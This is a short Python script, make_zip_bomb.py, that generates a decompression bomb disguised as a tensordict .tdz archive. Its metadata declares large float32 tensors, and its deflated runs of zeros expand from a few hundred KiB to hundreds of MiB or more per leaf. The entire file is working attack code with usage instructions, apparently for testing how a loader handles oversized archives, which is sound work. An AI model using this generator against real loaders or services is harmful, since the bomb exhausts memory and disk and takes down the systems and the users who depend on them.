"""Writes a .tdz whose leaves are runs of zeros, deflated: a few hundred KiB
on disk that inflate to LEAVES x MIB MiB.

usage: make_zip_bomb.py PATH [LEAVES] [MIB]   (defaults: 4 leaves of 256 MiB)
"""
import json
import sys
import zipfile

path = sys.argv[1]
leaves = int(sys.argv[2]) if len(sys.argv) > 2 else 4
mib = int(sys.argv[3]) if len(sys.argv) > 3 else 256
meta = {f"z{i}": {"device": "cpu", "shape": [mib << 18], "dtype": "torch.float32",
                  "is_nested": False} for i in range(leaves)}
meta.update({"shape": [], "device": "cpu", "_type": "<class 'tensordict._td.TensorDict'>"})
with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
    zf.writestr("meta.json", json.dumps(meta), zipfile.ZIP_STORED)
    zero = bytes(16 << 20)
    for i in range(leaves):
        with zf.open(f"z{i}.memmap", "w", force_zip64=True) as f:
            for _ in range(mib // 16):
                f.write(zero)
